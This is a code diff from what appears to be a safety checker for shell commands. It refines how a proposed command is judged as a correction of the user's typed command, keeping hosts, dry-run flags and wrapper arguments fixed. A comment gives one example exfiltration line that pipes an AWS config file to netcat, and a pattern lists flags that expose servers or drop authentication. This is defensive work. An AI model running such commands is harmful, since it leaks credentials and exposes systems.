@@ -105,7 +105,7 @@ export async function judge(plan: string, cwd: string, typed?: Typed, depth = 0,
     if (!c.argv.length || c.dynamic.some(Boolean) || c.repeated) continue;
     const text = scriptOf(c.argv, cwd);
     // (The person's own `make buidl`, corrected to `make build`, runs their Makefile as they chose to, read or not.)
-    if (text === undefined || (text === UNREAD && theirs !== undefined && corrects(c, theirs, said))) continue;
+    if (text === undefined || (text === UNREAD && theirs !== undefined && corrects(c, theirs, said, cwd))) continue;
     // A script that is there and not read for sure, or past three levels of scripts calling scripts: what runs is
     // not known, and never trusted by its command's name.
     scripted.set(c, text !== UNREAD && depth < 3 ? await judge(text, cwd, undefined, depth + 1) : { dangers: [], effects: ["runs"], unknown: [] });
@@ -134,7 +134,7 @@ export async function judge(plan: string, cwd: string, typed?: Typed, depth = 0,
   for (const c of reduced.commands) {
     const e = each.get(c)!;
     // A program aye cannot say the effects of (`./deploy.sh`) takes only its slips corrected: no word from the output.
-    const lent = theirs !== undefined && corrects(c, theirs, said) ? adopted(c, theirs) : undefined;
+    const lent = theirs !== undefined && corrects(c, theirs, said, cwd) ? adopted(c, theirs) : undefined;
     const own = lent !== undefined && lent.every((w) => plainWord(w, cwd, written)) && (!lent.length || !effectsOf(theirs!, cwd).effects.includes("unknown"));
     // Their own command, corrected, may still do what they chose it for, and no more: a word the output put in
     // (an output anyone can write to, such as an HTTP body) must not turn a status check into an upload.
@@ -293,7 +293,7 @@ const plainWord = (w: string, cwd: string, written: Set<string>) =>
  * Words that open a server to the network or drop its password (`--ip=0.0.0.0`, `--NotebookApp.token=`), make what
  * is sent public, or widen what a command sends or deletes (`--all`, `--follow-tags`, rsync's `--del`).
  */
-const OPENS_UP = /0\.0\.0\.0|(?:^|=)::$|(?:token|password|passwd|auth|secret|key)=$|^--(?:no-auth|allow-root|disable-auth|insecure|all|tags|follow-tags|mirror|del|recursive)$|public|authenticated/i;
+const OPENS_UP = /0\.0\.0\.0|(?:^|=)::$|^--?(?:host|bind|listen|address|ip|addr)=(?:0|\*|\[::\])$|(?:token|password|passwd|auth|secret|key)=$|^--(?:no-auth|allow-root|disable-auth|insecure|all|tags|follow-tags|mirror|del|recursive)$|public|authenticated/i;
 
 
 /**
@@ -311,13 +311,19 @@ function ownEffects(c: SimpleCommand, theirs: SimpleCommand, cwd: string): Set<E
  * only those changed that slipped, and words added, dropped or swapped in that
  * the tool's output names (`said`); the same redirections, under the same wrappers.
  */
-function corrects(b: SimpleCommand, a: SimpleCommand, said: Set<string>): boolean {
-  if (JSON.stringify(a.redirects) !== JSON.stringify(b.redirects) || wrapperNames(a) !== wrapperNames(b)) return false;
+function corrects(b: SimpleCommand, a: SimpleCommand, said: Set<string>, cwd: string): boolean {
+  // (The wrappers' own words too: `npx prettier` is not `npx -p other-package prettier`.)
+  if (JSON.stringify(a.redirects) !== JSON.stringify(b.redirects) || wrapperNames(a) !== wrapperNames(b) || JSON.stringify(a.wrappers ?? []) !== JSON.stringify(b.wrappers ?? [])) return false;
   // What the plan feeds it (`cat ~/.aws/config | nc host 9999`) is not what the person gave it.
   if ((b.stdinFrom.length > 0 || b.stdinText !== undefined) && !(a.stdinFrom.length > 0 || a.stdinText !== undefined)) return false;
   const typed = a.argv;
   const meant = b.argv;
   if (!meant.length || (typed[0] !== meant[0] && !slipped(typed[0] ?? "", meant[0]!))) return false;
+  // The output may add words to a command aye knows; it may not drop or replace the words of one that sends (the
+  // remote, the host), nor touch a program aye cannot say the effects of (a script's arguments are its meaning).
+  const effects = effectsOf(a, cwd).effects;
+  const known = !effects.includes("unknown");
+  const replace = known && !effects.includes("sends");
   // An alignment of the two lines where every change slipped or was named by the tool.
   const can: boolean[][] = Array.from({ length: typed.length + 1 }, () => Array<boolean>(meant.length + 1).fill(false));
   can[0]![0] = true;
@@ -326,12 +332,25 @@ function corrects(b: SimpleCommand, a: SimpleCommand, said: Set<string>): boolea
       if (!can[i]![j]) continue;
       // (A value the person gave an option is theirs: the output may not swap `--env staging` for `production`.)
       const theirValue = i > 0 && typed[i - 1]!.startsWith("-") && !typed[i - 1]!.includes("=");
-      if (i < typed.length && j < meant.length && (typed[i] === meant[j] || slipped(typed[i]!, meant[j]!) || (said.has(meant[j]!) && !theirValue))) can[i + 1]![j + 1] = true;
-      if (j < meant.length && said.has(meant[j]!)) can[i]![j + 1] = true;
-      if (i < typed.length && said.has(typed[i]!)) can[i + 1]![j] = true;
+      // (What the person chose to only preview, and where they sent it, stays theirs: no `--dry-run` dropped or
+      // slipped into `-y`, no host a letter away, `web1` → `web7`, `api.acme.io` → `api.acme.co`.)
+      const fixed = i > 0 && i < typed.length && (PREVIEW.test(typed[i]!) || HOSTLIKE.test(typed[i]!));
+      if (i < typed.length && j < meant.length && (typed[i] === meant[j] || (!fixed && (slipped(typed[i]!, meant[j]!) || (replace && said.has(meant[j]!) && !theirValue && !sendsTo(meant[j]!)))))) can[i + 1]![j + 1] = true;
+      if (known && j < meant.length && said.has(meant[j]!) && !sendsTo(meant[j]!)) can[i]![j + 1] = true;
+      if (replace && i < typed.length && !fixed && said.has(typed[i]!)) can[i + 1]![j] = true;
     }
   }
   if (can[typed.length]![meant.length]) return true;
-  // The same words in another order (`git origin push` → `git push origin`).
-  return typed.length === meant.length && [...typed].sort().join("\0") === [...meant].sort().join("\0");
+  // The same words in another order (`git origin push` → `git push origin`), for a program aye knows: to a script
+  // of the project's, the order is the meaning (`copy-db.sh staging production`).
+  return known && typed.length === meant.length && [...typed].sort().join("\0") === [...meant].sort().join("\0");
 }
+
+/** A word that names a host, as itself or as an option's value (`--proxy=relay.example.net`). */
+const sendsTo = (w: string) => HOSTLIKE.test(w) || HOSTLIKE.test(w.slice(w.indexOf("=") + 1));
+
+/** Options that make a command only show what it would do. */
+const PREVIEW = /^(?:-n|--dry-?run(?:=.*)?|--dryrun|--dry|--no-act|--noop|--simulate|--pretend|--what-?if|--check|--plan|--preview|--diff|-whatif)$/i;
+
+/** A host, an address or a place a command is sent to: `api.acme.io`, `10.0.0.7`, `user@host`, a URL. */
+const HOSTLIKE = /:\/\/|@[\w-]|^(?:[\w-]+\.)+(?:com|net|org|io|co|dev|app|cloud|internal|local|lan|example|[a-z]{2})(?::\d+)?(?:\/.*)?$|^\d{1,3}(?:\.\d{1,3}){3}/i;
